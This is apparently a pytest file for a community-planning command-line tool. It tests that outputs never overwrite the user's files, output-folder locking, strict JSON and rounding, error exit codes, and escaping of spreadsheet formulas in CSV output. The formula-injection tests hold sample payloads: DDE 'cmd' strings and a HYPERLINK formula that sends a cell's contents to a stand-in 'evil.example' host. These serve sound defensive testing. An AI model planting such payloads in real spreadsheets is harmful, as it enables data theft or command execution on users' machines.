"""Issue 7, items 1, 6, 9 and 10: never touch what is not ours; safe, strict output files.

Every CLI case asserts the exit code, the key words of the message, and, where a user
file is at stake, that it is byte for byte unchanged (SHA-256 before and after). The
district is the 1,500 m street of ``conftest.line_district`` (4 valid communities, 1
rejected, one station).
"""

from __future__ import annotations

import hashlib
import json
import math
import os
import subprocess
import sys
from pathlib import Path

import geopandas as gpd
import numpy as np
import pandas as pd
import pytest
from click.testing import CliRunner

import planner.pipeline
from planner.cli import main
from planner.io import escape_formula, to_json, write_csv
from planner.io.guard import LOCK_NAME, MANIFEST_NAME, PARTIAL_MARK
from planner.io.outputs import OUTPUT_FILES
from planner.io.writers import decimals_for


def sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def checksums(folder: Path) -> dict[str, str]:
    """Relative path → SHA-256 of every file under ``folder``."""
    return {str(p.relative_to(folder)): sha(p) for p in sorted(folder.rglob("*")) if p.is_file()}


def run(d: dict[str, Path], out: object, *extra: str, **kw: object):
    args = ["run", "--network", str(d["network"]), "--communities", str(d["communities"]),
            "--facilities", str(d["facilities"]), "--profile", "changji", "--out", str(out),
            *extra]
    return CliRunner().invoke(main, args, **kw)


def assert_refused(result, *words: str) -> None:
    assert result.exit_code == 2, result.output
    assert "Traceback" not in result.output
    for word in words:
        assert word in result.output, (word, result.output)
    assert "loading network" not in result.output  # refused before any computing


# ---------------------------------------------------------------------------
# item 1: outputs never replace the user's files


def test_out_is_the_folder_of_an_input(line_district):
    d = line_district
    before = checksums(d["dir"])
    result = run(d, d["dir"])
    assert_refused(result, "--out", "folder holding the input file", "communities.csv")
    assert checksums(d["dir"]) == before


def test_out_is_an_input_file(line_district):
    d = line_district
    before = checksums(d["dir"])
    result = run(d, d["communities"])
    assert_refused(result, "--out", "is a file")
    assert checksums(d["dir"]) == before


def test_map_is_an_input_file(line_district, tmp_path):
    d = line_district
    before = checksums(d["dir"])
    result = run(d, tmp_path / "o", "--map", str(d["communities"]))
    assert_refused(result, "--map", "input files")
    assert checksums(d["dir"]) == before


def test_map_must_be_html(line_district, tmp_path):
    result = run(line_district, tmp_path / "o", "--map", str(tmp_path / "map.png"))
    assert_refused(result, "--map", ".html")


def test_map_will_not_replace_a_file_that_is_not_html(line_district, tmp_path):
    notes = tmp_path / "meeting.html"
    notes.write_text("my own notes, not a web page", encoding="utf-8")
    result = run(line_district, tmp_path / "o", "--map", str(notes))
    assert_refused(result, "--map", "not an HTML page")
    assert notes.read_text(encoding="utf-8") == "my own notes, not a web page"


def test_empty_out_is_refused_and_the_working_directory_untouched(line_district, tmp_path):
    cwd = tmp_path / "cwd"
    cwd.mkdir()
    (cwd / "communities.csv").write_text("mine\n", encoding="utf-8")
    before = checksums(cwd)
    old = Path.cwd()
    os.chdir(cwd)
    try:
        result = run(line_district, "")
    finally:
        os.chdir(old)
    assert_refused(result, "--out is empty")
    assert checksums(cwd) == before


def test_unwritable_out_is_found_before_computing(line_district, tmp_path):
    blocker = tmp_path / "a-file"
    blocker.write_text("x", encoding="utf-8")
    result = run(line_district, blocker / "out")  # a folder inside a regular file
    assert_refused(result, "--out", "cannot write there")


def test_unwritable_map_is_found_before_computing(line_district, tmp_path):
    blocker = tmp_path / "a-file"
    blocker.write_text("x", encoding="utf-8")
    result = run(line_district, tmp_path / "o", "--map", str(blocker / "map.html"))
    assert_refused(result, "--map", "cannot write there")
    assert not (tmp_path / "o" / "summary.json").exists()


def test_map_equal_to_out_gap_map_is_fine(line_district, tmp_path):
    out = tmp_path / "o"
    result = run(line_district, out, "--map", str(out / "gap_map.html"))
    assert result.exit_code == 0, result.output
    assert (out / "gap_map.html").stat().st_size > 10_000


def test_foreign_partial_folder_and_map_survive(line_district, tmp_path):
    """A `.partial-anything/` folder and a gap_map.html the planner did not write stay."""
    out = tmp_path / "o"
    out.mkdir()
    foreign = out / ".partial-anything"
    foreign.mkdir()
    (foreign / "thesis.docx").write_bytes(b"years of work")
    (out / "gap_map.html").write_text("<html>my own map</html>", encoding="utf-8")
    ours = out / ".partial-planner-123-abc"  # left by a killed run, with the mark
    ours.mkdir()
    (ours / PARTIAL_MARK).write_text("", encoding="utf-8")
    before = {**checksums(foreign), "map": sha(out / "gap_map.html")}
    result = run(line_district, out, "--no-map")
    assert result.exit_code == 0, result.output
    assert {**checksums(foreign), "map": sha(out / "gap_map.html")} == before
    assert not ours.exists()
    assert (out / "summary.json").exists()


def test_foreign_file_with_an_output_name_is_not_replaced(line_district, tmp_path):
    out = tmp_path / "o"
    out.mkdir()
    (out / "targets.csv").write_text("my budget table\n", encoding="utf-8")
    before = checksums(out)
    result = run(line_district, out, "--no-map")
    assert result.exit_code == 2, result.output
    assert "targets.csv" in result.output and "did not write" in result.output
    assert "Traceback" not in result.output
    assert checksums(out) == before


def test_foreign_output_name_is_refused_before_computing(line_district, tmp_path):
    """The user's file is found before the network is loaded, not after the whole run."""
    out = tmp_path / "o"
    out.mkdir()
    (out / "communities.csv").write_text("my own list\n", encoding="utf-8")
    before = checksums(out)
    assert_refused(run(line_district, out), "communities.csv", "did not write")
    assert checksums(out) == before


def test_rerun_replaces_its_own_files_and_edited_ones_are_protected(line_district, tmp_path):
    out = tmp_path / "o"
    assert run(line_district, out, "--no-map").exit_code == 0
    manifest = json.loads((out / MANIFEST_NAME).read_text(encoding="utf-8"))
    assert set(manifest["files"]) == {n for n in OUTPUT_FILES if (out / n).exists()}
    assert run(line_district, out, "--no-map").exit_code == 0  # its own files: replaced
    with (out / "streets.csv").open("a", encoding="utf-8") as f:
        f.write("my edit\n")  # the user edited an output: it is theirs now
    edited = sha(out / "streets.csv")
    result = run(line_district, out, "--no-map")
    assert result.exit_code == 2 and "streets.csv" in result.output
    assert sha(out / "streets.csv") == edited


def test_second_run_into_a_locked_folder_stops(line_district, tmp_path):
    out = tmp_path / "o"
    out.mkdir()
    sleeper = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"])
    try:
        (out / LOCK_NAME).write_text(json.dumps({"pid": sleeper.pid, "host": ""}),
                                     encoding="utf-8")
        result = run(line_district, out)
    finally:
        sleeper.kill()
        sleeper.wait()
    assert result.exit_code == 2, result.output
    assert "another planner run" in result.output and str(sleeper.pid) in result.output
    assert not (out / "summary.json").exists()
    assert (out / LOCK_NAME).exists()  # the other run's lock is left alone


def test_stale_lock_of_a_killed_run_is_taken_over(line_district, tmp_path):
    out = tmp_path / "o"
    out.mkdir()
    dead = subprocess.Popen([sys.executable, "-c", "pass"])
    dead.wait()
    (out / LOCK_NAME).write_text(json.dumps({"pid": dead.pid, "host": ""}), encoding="utf-8")
    result = run(line_district, out, "--no-map")
    assert result.exit_code == 0, result.output
    assert not (out / LOCK_NAME).exists()  # released at the end
    assert (out / "summary.json").exists()


# ---------------------------------------------------------------------------
# item 6: formula injection


@pytest.mark.parametrize(("value", "expected"), [
    ("=HYPERLINK(\"http://x\"&A2)", "'=HYPERLINK(\"http://x\"&A2)"),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("-5", "-5"),  # a signed number is data
    ("幸福小区", "幸福小区"),
])
def test_escape_formula(value, expected):
    assert escape_formula(value) == expected


def test_write_csv_keeps_numbers_numbers(tmp_path):
    frame = pd.DataFrame({"name": ["=1+1", "ok"], "households": [-3, 200],
                          "share_meets": [1 / 3, np.inf]})
    path = write_csv(frame, tmp_path / "t.csv")
    back = pd.read_csv(path, encoding="utf-8-sig")
    assert back["name"].tolist() == ["'=1+1", "ok"]
    assert back["households"].tolist() == [-3, 200]  # still numbers, no quote
    assert back["share_meets"].iloc[0] == 0.3333  # shares to 0.0001
    assert math.isnan(back["share_meets"].iloc[1])  # infinity is an empty cell


def test_community_name_formula_is_escaped_in_csv_not_in_gpkg(line_district, tmp_path):
    d = line_district
    frame = pd.read_csv(d["communities"])
    payload = '=HYPERLINK("http://evil.example/?"&A2,"点击")'
    frame.loc[0, "name"] = payload
    frame["households"] = frame["households"].astype(object)
    frame.loc[4, "name"] = "@cmd"  # the rejected row: its value goes to rejects.csv
    frame.loc[4, "households"] = "=0"
    path = tmp_path / "evil.csv"
    frame.to_csv(path, index=False)
    out = tmp_path / "o"
    result = CliRunner().invoke(main, [
        "run", "--network", str(d["network"]), "--communities", str(path), "--facilities",
        str(d["facilities"]), "--out", str(out), "--no-map"])
    assert result.exit_code == 0, result.output
    csv = pd.read_csv(out / "communities.csv", encoding="utf-8-sig", index_col="community_id")
    assert csv.loc["A", "name"] == "'" + payload
    gpkg = gpd.read_file(out / "communities.gpkg", layer="communities").set_index("community_id")
    assert gpkg.loc["A", "name"] == payload  # GeoPackages keep the raw value
    rejects = pd.read_csv(out / "rejects.csv", dtype=str, encoding="utf-8-sig")
    assert rejects.loc[0, "value"] == "'=0"


# ---------------------------------------------------------------------------
# item 9: strict JSON, rounding, help


def test_to_json_has_no_nan_or_infinity():
    text = to_json({"a": float("nan"), "b": [np.float64("inf"), -np.inf], "c": np.int64(3),
                    "shortfall_m2": 12.345678, "nearest_minutes": 4.56789, "value": 1 / 3})

    def refuse(name):
        raise AssertionError(name)

    data = json.loads(text, parse_constant=refuse)
    assert data == {"a": None, "b": [None, None], "c": 3, "shortfall_m2": 12.3,
                    "nearest_minutes": 4.57, "value": 0.3333}


@pytest.mark.parametrize(("column", "places"), [
    ("shortfall_m2", 1), ("accessible_m2_per_100hh", 1), ("nearest_minutes", 2),
    ("minutes", 2), ("share_households_meets", 4), ("value", 4), ("distance_m", 2),
    ("households", None),
])
def test_decimals_by_column(column, places):
    assert decimals_for(column) == places


def test_summary_json_is_strict_and_rounded(line_district, tmp_path):
    out = tmp_path / "o"
    assert run(line_district, out, "--no-map").exit_code == 0

    def refuse(name):
        raise AssertionError(f"{name} in summary.json")

    summary = json.loads((out / "summary.json").read_text(encoding="utf-8"),
                         parse_constant=refuse)
    assert summary["declared_crs"] == {"network": "wgs84", "communities": "wgs84",
                                       "facilities": "wgs84"}
    share = summary["network"]["main_component_share"]
    assert share == round(share, 4)
    targets = pd.read_csv(out / "targets.csv", encoding="utf-8-sig")
    values = targets["value"].dropna()
    assert (values == values.round(4)).all()


def test_run_help_lists_every_output_file():
    result = CliRunner().invoke(main, ["run", "--help"])
    assert result.exit_code == 0
    for name in OUTPUT_FILES:
        assert name in result.output, name
    assert "--communities-layer" in result.output and "--sheet" in result.output


def test_cli_never_prints_temporary_paths(line_district, tmp_path):
    result = run(line_district, tmp_path / "o")
    assert result.exit_code == 0, result.output
    assert ".partial-" not in result.output and "/tmp/tmp" not in result.output


# ---------------------------------------------------------------------------
# item 10: unexpected errors


def test_unexpected_error_is_one_line_and_exit_3(line_district, tmp_path, monkeypatch):
    def broken(*args, **kwargs):
        raise KeyError("surprise")

    monkeypatch.setattr(planner.pipeline, "load_study_area", broken)
    result = run(line_district, tmp_path / "o")
    assert result.exit_code == 3, result.output
    assert "Traceback" not in result.output
    lines = [line for line in result.output.splitlines() if "internal error" in line]
    assert len(lines) == 1 and "KeyError" in lines[0] and "-v" in lines[0]


def test_unexpected_error_with_v_shows_the_exception(line_district, tmp_path, monkeypatch):
    def broken(*args, **kwargs):
        raise KeyError("surprise")

    monkeypatch.setattr(planner.pipeline, "load_study_area", broken)
    d = line_district
    result = CliRunner().invoke(main, [
        "-v", "run", "--network", str(d["network"]), "--communities", str(d["communities"]),
        "--facilities", str(d["facilities"]), "--out", str(tmp_path / "o")])
    assert result.exit_code != 0
    assert isinstance(result.exception, KeyError)  # re-raised: click shows the traceback


def test_out_of_memory_is_bad_input_not_internal(line_district, tmp_path, monkeypatch):
    def hungry(*args, **kwargs):
        raise MemoryError

    monkeypatch.setattr(planner.pipeline, "load_study_area", hungry)
    result = run(line_district, tmp_path / "o")
    assert result.exit_code == 2, result.output
    assert "ran out of memory" in result.output and "Traceback" not in result.output


# ---------------------------------------------------------------------------
# planner sample never replaces a user's files


def test_sample_refuses_a_folder_with_the_users_files(tmp_path):
    folder = tmp_path / "my-data"
    folder.mkdir()
    (folder / "communities.gpkg").write_bytes(b"the bureau's real layer")
    before = checksums(folder)
    result = CliRunner().invoke(main, ["sample", "--out", str(folder), "--size", "0.2"])
    assert result.exit_code == 2, result.output
    assert "communities.gpkg" in result.output and "did" in result.output
    assert checksums(folder) == before


def test_sample_reruns_into_its_own_folder(tmp_path):
    folder = tmp_path / "sample"
    args = ["sample", "--out", str(folder), "--size", "0.2"]
    assert CliRunner().invoke(main, args).exit_code == 0
    first = {k: v for k, v in checksums(folder).items() if k.endswith(".csv")}
    result = CliRunner().invoke(main, args)  # same seed: the same tables, replaced
    assert result.exit_code == 0, result.output
    assert {k: v for k, v in checksums(folder).items() if k.endswith(".csv")} == first
    assert len(first) == 2  # gates.csv and facilities.csv (GeoPackages carry timestamps)
    assert not (folder / LOCK_NAME).exists()


def test_map_and_no_map_contradict(line_district, tmp_path):
    result = run(line_district, tmp_path / "o", "--no-map", "--map", str(tmp_path / "m.html"))
    assert_refused(result, "--map and --no-map")


def test_python_api_refuses_the_folder_of_an_input(line_district):
    from planner.outputs import write_outputs  # noqa: PLC0415
    from planner.pipeline import assess, load_study_area  # noqa: PLC0415

    d = line_district
    area = load_study_area(d["network"], d["communities"], d["facilities"])
    result = assess(area, "changji", isochrones=False)
    before = checksums(d["dir"])
    with pytest.raises(ValueError, match="folder holding the input file"):
        write_outputs(result, area, d["dir"])
    assert checksums(d["dir"]) == before


def test_folder_of_an_older_planner_run_is_replaced_but_nothing_removed(line_district,
                                                                       tmp_path):
    """Written before manifests existed: recognised by its planner summary.json."""
    out = tmp_path / "o"
    out.mkdir()
    (out / "summary.json").write_text(json.dumps({"profile": "national", "inputs": {}}),
                                      encoding="utf-8")
    (out / "communities.csv").write_text("old table\n", encoding="utf-8")
    (out / "gap_map.html").write_text("<html>old map</html>", encoding="utf-8")
    old_map = sha(out / "gap_map.html")
    result = run(line_district, out, "--no-map")
    assert result.exit_code == 0, result.output
    assert "old table" not in (out / "communities.csv").read_text(encoding="utf-8-sig")
    assert sha(out / "gap_map.html") == old_map  # not written now: left, not deleted
    assert summary_profile(out) == "changji"


def summary_profile(out: Path) -> str:
    return json.loads((out / "summary.json").read_text(encoding="utf-8"))["profile"]


def test_sample_accepts_an_older_sample_folder(tmp_path):
    folder = tmp_path / "sample"
    folder.mkdir()
    (folder / "README.md").write_text("# 合成样例区 · Synthetic sample district\n\nold\n",
                                      encoding="utf-8")
    (folder / "gates.csv").write_text("old\n", encoding="utf-8")
    result = CliRunner().invoke(main, ["sample", "--out", str(folder), "--size", "0.2"])
    assert result.exit_code == 0, result.output
    assert (folder / "gates.csv").read_text(encoding="utf-8").startswith("community_id")


def _start(d: dict[str, Path], out: Path, cache_home: Path) -> subprocess.Popen:
    args = ["run", "--network", str(d["network"]), "--communities", str(d["communities"]),
            "--facilities", str(d["facilities"]), "--profile", "changji", "--out", str(out),
            "--no-map"]
    env = {**os.environ, "XDG_CACHE_HOME": str(cache_home),
           "PYTHONPATH": str(Path(__file__).resolve().parents[1])}
    return subprocess.Popen([sys.executable, "-c", "from planner.cli import main; main()",
                             *args], stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
                            env=env, cwd=d["dir"])


def test_two_runs_at_once_never_crash(line_district, tmp_path):
    """Two runs into one --out, and a third into another, started together, sharing one
    network cache: each finishes (0) or stops with the lock message (2), never 3."""
    d = line_district
    cache_home = tmp_path / "cache-home"
    out = tmp_path / "shared"
    procs = [_start(d, out, cache_home), _start(d, out, cache_home),
             _start(d, tmp_path / "other", cache_home)]
    results = [(p.wait(timeout=300), p.stdout.read().decode()) for p in procs]
    for p in procs:
        p.stdout.close()
    for code, text in results:
        assert code in (0, 2), text
        assert "Traceback" not in text and "internal error" not in text
        if code == 2:
            assert "another planner run" in text
    assert results[2][0] == 0
    assert 0 in (results[0][0], results[1][0])
    assert json.loads((out / "summary.json").read_text(encoding="utf-8"))["inputs"][
        "communities"]["read"] == 5
    caches = list((cache_home / "planner" / "networks").glob("*.reach.npz"))
    assert len(caches) == 1  # one cache file, no temporary leftovers beside it
    assert list((cache_home / "planner" / "networks").glob("*.tmp")) == []


def test_planner_map_html_must_end_in_html(line_district, tmp_path):
    """`planner map --html notes.txt` wrote a web page under a text name; now refused."""
    out = tmp_path / "o"
    assert run(line_district, out, "--no-map").exit_code == 0
    notes = tmp_path / "notes.txt"
    result = CliRunner().invoke(main, ["map", str(out), "--html", str(notes)])
    assert result.exit_code == 2, result.output
    assert "--html" in result.output and "ending in .html" in result.output
    assert not notes.exists()
